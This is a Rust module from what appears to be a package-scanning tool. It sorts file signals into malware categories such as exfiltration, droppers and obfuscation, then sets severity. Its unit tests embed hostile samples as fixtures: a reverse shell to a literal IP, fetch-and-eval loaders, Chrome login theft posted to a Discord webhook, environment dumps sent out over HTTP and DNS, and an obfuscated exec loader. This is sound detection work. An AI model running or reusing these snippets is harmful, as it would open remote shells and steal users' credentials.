//! The behaviour rules. Each file is first summarised into an
//! [`Assessment`]: which categories of behaviour its signals add up to
//! (obfuscation, credential access, exfiltration …), decided from
//! combinations within one function. Rules then pick their category and set
//! severity from what else met in the same file and from when it runs.

pub mod ai_cli;
pub mod chain;
pub mod credentials;
pub mod dropper;
pub mod exfiltration;
pub mod git_dependency;
pub mod import_time;
pub mod install_script;
pub mod lock_integrity;
pub mod native_binary;
pub mod obfuscation;
pub mod persistence;
pub mod propagation;
pub mod record_mismatch;
pub mod setup_script;
pub mod startup_hook;
pub mod unowned_startup;

use super::file::{FileFacts, Lang};
use super::package::{Pkg, Role};
use super::signals::{FileSignals, Kind, Signal};
use crate::finding::{Finding, Location, RuleMeta, Severity};

/// Every behaviour rule, for `Analysis::rules`.
pub const RULES: &[RuleMeta] = &[
    chain::META,
    startup_hook::META,
    install_script::META,
    setup_script::META,
    import_time::META,
    obfuscation::META,
    credentials::META,
    exfiltration::META,
    persistence::META,
    propagation::META,
    dropper::META,
    git_dependency::META,
    ai_cli::META,
    record_mismatch::META,
    unowned_startup::META,
    native_binary::META,
    lock_integrity::META,
];

/// Runs every rule on one package.
pub fn check(pkg: &Pkg, out: &mut Vec<Finding>) {
    for f in &pkg.files {
        let a = assess(&f.signals, f.lang);
        let role = pkg.role(&f.rel);
        let ctx = FileCtx {
            pkg,
            file: f,
            a: &a,
            role: &role,
        };
        let mut here = Vec::new();
        obfuscation::check(&ctx, &mut here);
        credentials::check(&ctx, &mut here);
        exfiltration::check(&ctx, &mut here);
        persistence::check(&ctx, &mut here);
        propagation::check(&ctx, &mut here);
        dropper::check(&ctx, &mut here);
        ai_cli::check(&ctx, &mut here);
        import_time::check(&ctx, &mut here);
        setup_script::check(&ctx, &mut here);
        startup_hook::check(&ctx, &mut here);
        unowned_startup::check(&ctx, &mut here);
        record_mismatch::check(&ctx, &mut here);
        chain::check(&ctx, &mut here);
        out.extend(fold_into_chain(here));
    }
    install_script::check(pkg, out);
    setup_script::check_backend(pkg, out);
    git_dependency::check(pkg, out);
    native_binary::check(pkg, out);
}

/// Rules whose findings on a file the chain (TG200) already tells: when the
/// chain fires, they fold into it so a user sees one finding per file, not
/// five. Integrity facts (TG213 record mismatch, TG214 ownerless start-up
/// file) say something else and stay.
const FOLDED: &[&str] = &[
    "TG201", "TG203", "TG204", "TG205", "TG206", "TG207", "TG208", "TG209", "TG210", "TG212",
];

/// Folds one file's behaviour findings into its chain finding, if there is
/// one, keeping the folded rules' IDs as the chain's first evidence line.
fn fold_into_chain(mut here: Vec<Finding>) -> Vec<Finding> {
    let Some(ci) = here.iter().position(|f| f.rule_id == chain::META.id) else {
        return here;
    };
    let chain_sev = here[ci].severity;
    let folded: Vec<String> = here
        .iter()
        .filter(|f| FOLDED.contains(&f.rule_id.as_str()) && f.severity <= chain_sev)
        .map(|f| format!("{} {}", f.rule_id, f.rule))
        .collect();
    if folded.is_empty() {
        return here;
    }
    here.retain(|f| !(FOLDED.contains(&f.rule_id.as_str()) && f.severity <= chain_sev));
    if let Some(chain) = here.iter_mut().find(|f| f.rule_id == chain::META.id) {
        chain
            .evidence
            .insert(0, format!("also matches: {}", folded.join(", ")));
    }
    here
}

/// One file as the per-file rules see it.
pub struct FileCtx<'a> {
    pub pkg: &'a Pkg<'a>,
    pub file: &'a FileFacts,
    pub a: &'a Assessment<'a>,
    pub role: &'a Role,
}

impl FileCtx<'_> {
    /// A bundle read only by the cheap scan, not run unasked: its co-occurrences
    /// are file-wide and weak, so it is reported at most as low.
    pub fn weak_bundle(&self) -> bool {
        self.file.bundle && !self.role.runs_unasked()
    }

    /// A finding on this file with the signals as evidence.
    pub fn finding(&self, meta: &RuleMeta, sev: Severity, msg: String, ev: &[&Signal]) -> Finding {
        let sev = if self.weak_bundle() {
            sev.min(Severity::Low)
        } else {
            sev
        };
        finding_at(self.pkg, meta, &self.file.rel, sev, msg, ev)
    }
}

/// A finding at `rel` of `pkg`, evidence one line per signal.
pub fn finding_at(
    pkg: &Pkg,
    meta: &RuleMeta,
    rel: &str,
    sev: Severity,
    msg: String,
    ev: &[&Signal],
) -> Finding {
    let mut ev: Vec<&Signal> = ev.to_vec();
    ev.sort_by_key(|s| (s.line, s.kind));
    ev.dedup_by_key(|s| (s.line, s.kind));
    let line = ev.first().map(|s| s.line);
    let loc = match line {
        Some(l) => Location::at(pkg.path(rel), l, None),
        None => Location::file(pkg.path(rel)),
    };
    let mut f = Finding::new(meta, msg).severity(sev).location(loc);
    for s in ev.iter().take(12) {
        f = f.evidence(format!(
            "line {}: {} ({}): {}",
            s.line,
            s.kind.label(),
            s.detail,
            s.evidence
        ));
    }
    if ev.len() > 12 {
        f = f.evidence(format!("… and {} more", ev.len() - 12));
    }
    f
}

/// The categories one file's signals add up to; each holds its evidence.
#[derive(Default)]
pub struct Assessment<'a> {
    pub obfuscation: Vec<&'a Signal>,
    pub credential: Vec<&'a Signal>,
    /// Credential access strong enough to stand alone (≥ 2 stores, a
    /// scanner, an environment dump).
    pub credential_strong: bool,
    /// Any network send, webhook or literal IP (raw, not a category).
    pub exfil_sink: Vec<&'a Signal>,
    /// Collected data (credentials, environment, command output) meets a
    /// sink in one function: exfiltration.
    pub exfil: Vec<&'a Signal>,
    pub persistence: Vec<&'a Signal>,
    pub propagation: Vec<&'a Signal>,
    pub dropper: Vec<&'a Signal>,
    pub ai_abuse: Vec<&'a Signal>,
    /// Network, subprocess or dynamic exec at module level.
    pub top_level: Vec<&'a Signal>,
}

const EXEC: &[Kind] = &[Kind::Exec, Kind::ExecDecoded];
const RUNS: &[Kind] = &[Kind::Exec, Kind::ExecDecoded, Kind::Subprocess];
const SINKS: &[Kind] = &[Kind::NetworkSend, Kind::ExfilEndpoint, Kind::HardcodedIp];
/// Signals that are acts (not mere literals): what makes module-level code matter.
const ACTS: &[Kind] = &[
    Kind::FileWrite,
    Kind::Subprocess,
    Kind::Network,
    Kind::NetworkSend,
    Kind::Exec,
    Kind::ExecDecoded,
    Kind::Download,
    Kind::Chmod,
];
const WRITES: &[Kind] = &[Kind::FileWrite, Kind::Subprocess];

/// Credential details too common in ordinary configuration loading to count
/// alone (python-dotenv reads `.env`).
const SOFT_CREDENTIALS: &[&str] = &[".env files"];

impl<'a> Assessment<'a> {
    pub fn obfuscated(&self) -> bool {
        !self.obfuscation.is_empty()
    }
    pub fn credentials(&self) -> bool {
        !self.credential.is_empty()
    }
    /// The categories present, in the order a chain reads.
    pub fn categories(&self) -> Vec<(&'static str, &[&'a Signal])> {
        let mut v: Vec<(&'static str, &[&'a Signal])> = Vec::new();
        for (name, list) in [
            ("obfuscated code", &self.obfuscation),
            ("credential access", &self.credential),
            ("exfiltration", &self.exfil),
            ("persistence", &self.persistence),
            ("propagation", &self.propagation),
            ("dropper", &self.dropper),
            ("AI agent abuse", &self.ai_abuse),
        ] {
            if !list.is_empty() {
                v.push((name, list.as_slice()));
            }
        }
        v
    }
}

/// Summarises one file's signals into categories.
pub fn assess(s: &FileSignals, lang: Lang) -> Assessment<'_> {
    let mut a = Assessment::default();
    let of = |ks: &[Kind]| -> Vec<&Signal> {
        s.signals.iter().filter(|x| ks.contains(&x.kind)).collect()
    };
    // Obfuscation: decoded data executed, or built-up access to builtins that runs something.
    if s.has(Kind::ExecDecoded) {
        a.obfuscation = of(&[Kind::ExecDecoded, Kind::Decode]);
    } else if s.together(&[&[Kind::Decode], EXEC]) {
        a.obfuscation = of(&[Kind::Decode, Kind::Exec]);
    } else if s.together(&[&[Kind::DynamicBuiltin], RUNS]) {
        a.obfuscation = of(&[Kind::DynamicBuiltin, Kind::Exec, Kind::Subprocess]);
    } else if s.together(&[&[Kind::HighEntropy], EXEC]) {
        a.obfuscation = of(&[Kind::HighEntropy, Kind::Exec]);
    } else if s.has(Kind::ObfuscatorStyle)
        && s.any(&[
            Kind::Exec,
            Kind::Subprocess,
            Kind::Network,
            Kind::NetworkSend,
        ])
    {
        a.obfuscation = of(&[
            Kind::ObfuscatorStyle,
            Kind::Exec,
            Kind::Subprocess,
            Kind::NetworkSend,
        ]);
    }
    // Credentials: which stores; a scanner or an environment dump is strong alone.
    let stores: Vec<&str> = s
        .details(&[Kind::CredentialFile])
        .into_iter()
        .filter(|d| !SOFT_CREDENTIALS.contains(d))
        .collect();
    let soft = s.details(&[Kind::CredentialFile]).len() > stores.len();
    let _ = soft;
    // A scanner named in text (docs, rule tables) is not a scanner run.
    let scanner = s.together(&[&[Kind::SecretScanner], &[Kind::Subprocess]])
        || (lang == Lang::Shell && s.has(Kind::SecretScanner));
    let dump = s.has(Kind::EnvDump);
    a.credential_strong = scanner || stores.len() >= 2;
    if a.credential_strong || dump || !stores.is_empty() {
        let mut kinds = vec![Kind::CredentialFile, Kind::EnvDump];
        if scanner {
            kinds.push(Kind::SecretScanner);
        }
        a.credential = of(&kinds);
    }
    a.exfil_sink = of(SINKS);
    let loot: &[Kind] = &[Kind::CredentialFile, Kind::EnvDump, Kind::SecretScanner];
    if (a.credentials() && s.together(&[loot, SINKS]))
        || s.together(&[
            &[Kind::ExfilEndpoint, Kind::HardcodedIp],
            &[
                Kind::FileRead,
                Kind::EnvDump,
                Kind::Subprocess,
                Kind::CredentialFile,
            ],
        ])
    {
        a.exfil = of(&[
            Kind::CredentialFile,
            Kind::EnvDump,
            Kind::SecretScanner,
            Kind::NetworkSend,
            Kind::ExfilEndpoint,
            Kind::HardcodedIp,
        ]);
    }
    // Persistence and propagation need an act (write, run, send) beside the target.
    if s.together(&[
        &[Kind::Persistence, Kind::StartupWrite, Kind::AgentConfig],
        WRITES,
    ]) || (lang == Lang::Shell && s.any(&[Kind::Persistence]))
    {
        a.persistence = of(&[
            Kind::Persistence,
            Kind::StartupWrite,
            Kind::AgentConfig,
            Kind::FileWrite,
        ]);
    }
    let acts: &[Kind] = &[
        Kind::Subprocess,
        Kind::Network,
        Kind::NetworkSend,
        Kind::FileWrite,
    ];
    if s.together(&[&[Kind::Publish, Kind::RepoWrite, Kind::Kubernetes], acts])
        || (lang == Lang::Shell && s.any(&[Kind::Publish, Kind::RepoWrite]))
    {
        a.propagation = of(&[Kind::Publish, Kind::RepoWrite, Kind::Kubernetes]);
    }
    // Droppers: fetch, make executable, run; or fetch a second runtime.
    let shell = lang == Lang::Shell;
    let fetch: &[Kind] = &[Kind::Download, Kind::Network];
    if s.together(&[&[Kind::PipeToShell], RUNS]) || (shell && s.has(Kind::PipeToShell)) {
        a.dropper = of(&[Kind::PipeToShell, Kind::Subprocess]);
    } else if s.together(&[fetch, &[Kind::Chmod], &[Kind::Subprocess]])
        || (shell && s.has(Kind::Download) && s.has(Kind::Chmod))
    {
        a.dropper = of(&[Kind::Download, Kind::Network, Kind::Chmod, Kind::Subprocess]);
    } else if s.together(&[
        &[Kind::HardcodedIp],
        &[Kind::Network, Kind::NetworkSend],
        &[Kind::Subprocess],
    ]) {
        // A socket to a literal address and a shell: a remote shell.
        a.dropper = of(&[Kind::HardcodedIp, Kind::Network, Kind::Subprocess]);
    } else if s.same_scope(&[&[Kind::Network, Kind::Download], &[Kind::Exec]]) {
        // Code fetched and evaluated in one function.
        a.dropper = of(&[Kind::Network, Kind::Download, Kind::Exec]);
    } else if s.has(Kind::SecondRuntime) && (shell || s.any(&[Kind::Subprocess, Kind::Download])) {
        a.dropper = of(&[Kind::SecondRuntime, Kind::Download, Kind::Subprocess]);
    }
    if s.same_scope(&[&[Kind::AiCliBypass], &[Kind::Subprocess]])
        || (shell && s.has(Kind::AiCliBypass))
    {
        a.ai_abuse = of(&[Kind::AiCliBypass, Kind::Subprocess]);
    }
    a.top_level = s
        .signals
        .iter()
        .filter(|x| {
            x.top_level
                && matches!(
                    x.kind,
                    Kind::Network
                        | Kind::NetworkSend
                        | Kind::Subprocess
                        | Kind::Exec
                        | Kind::ExecDecoded
                )
        })
        .collect();
    a
}

/// The severity of a category finding from where it runs: critical when
/// the file runs unasked (install, startup) or also steals and sends; high
/// when it runs on import or meets another category; medium for a single
/// behaviour inside a library function, which a user's own call triggers
/// (a CLI writing shell completion, a tool installing a browser).
pub fn grade(ctx: &FileCtx, own: &[&Signal]) -> Severity {
    let a = ctx.a;
    if ctx.role.runs_unasked() || !a.exfil.is_empty() {
        Severity::Critical
    } else if own.iter().any(|s| s.top_level && ACTS.contains(&s.kind)) || a.categories().len() >= 2
    {
        Severity::High
    } else {
        Severity::Medium
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analyze::behavior::{javascript, python};

    fn py(src: &str) -> Vec<&'static str> {
        let s = python::analyze(src.as_bytes()).unwrap();
        assess(&s, Lang::Python)
            .categories()
            .iter()
            .map(|c| c.0)
            .collect()
    }

    fn js(src: &str) -> Vec<&'static str> {
        let s = javascript::analyze(src.as_bytes()).unwrap();
        assess(&s, Lang::JavaScript)
            .categories()
            .iter()
            .map(|c| c.0)
            .collect()
    }

    #[test]
    fn reverse_shell_is_a_dropper() {
        let c = py(
            "import socket, subprocess, os\ns = socket.socket()\ns.connect(('198.51.100.7', 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\n",
        );
        assert!(c.contains(&"dropper"), "{c:?}");
    }

    #[test]
    fn fetched_code_evaluated_in_a_callback() {
        let c = js(
            "const https = require('https');\nhttps.get('https://x.invalid/p.js', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)); });\n",
        );
        assert!(c.contains(&"dropper"), "{c:?}");
        let c = py(
            "import urllib.request\ndef run():\n    code = urllib.request.urlopen('https://x.invalid/p').read()\n    exec(code)\n",
        );
        assert!(c.contains(&"dropper"), "{c:?}");
    }

    #[test]
    fn browser_store_sent_to_a_webhook() {
        let c = py(
            "import os, sqlite3, requests\ndef go():\n    db = os.path.join(os.environ['LOCALAPPDATA'], 'Google/Chrome/User Data/Default/Login Data')\n    rows = sqlite3.connect(db).execute('select 1').fetchall()\n    requests.post('https://discord.com/api/webhooks/1/x', json={'r': rows})\n",
        );
        assert!(
            c.contains(&"exfiltration") && c.contains(&"credential access"),
            "{c:?}"
        );
    }

    #[test]
    fn environment_posted_whole() {
        let c =
            py("import os, requests\nrequests.post('https://x.invalid', json=dict(os.environ))\n");
        assert!(c.contains(&"exfiltration"), "{c:?}");
        let c = js(
            "const dns = require('dns');\ndns.lookup(Buffer.from(JSON.stringify(process.env)).toString('hex').slice(0, 60) + '.x.invalid', () => {});\n",
        );
        assert!(c.contains(&"exfiltration"), "{c:?}");
    }

    #[test]
    fn lambda_wrapped_decoder_is_obfuscation() {
        let c = py(
            "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nexec((_)(b'=Aa'))\n",
        );
        assert!(c.contains(&"obfuscated code"), "{c:?}");
    }

    #[test]
    fn ordinary_library_code_has_no_category() {
        let c = py(
            "import requests, subprocess\ndef fetch(url):\n    return requests.get(url).json()\ndef version():\n    return subprocess.check_output(['git', '--version'])\n",
        );
        assert!(c.is_empty(), "{c:?}");
        let c = js(
            "const fs = require('fs');\nmodule.exports = (p) => JSON.parse(fs.readFileSync(p, 'utf8'));\nfetch('/api').then(r => r.json());\n",
        );
        assert!(c.is_empty(), "{c:?}");
    }
}
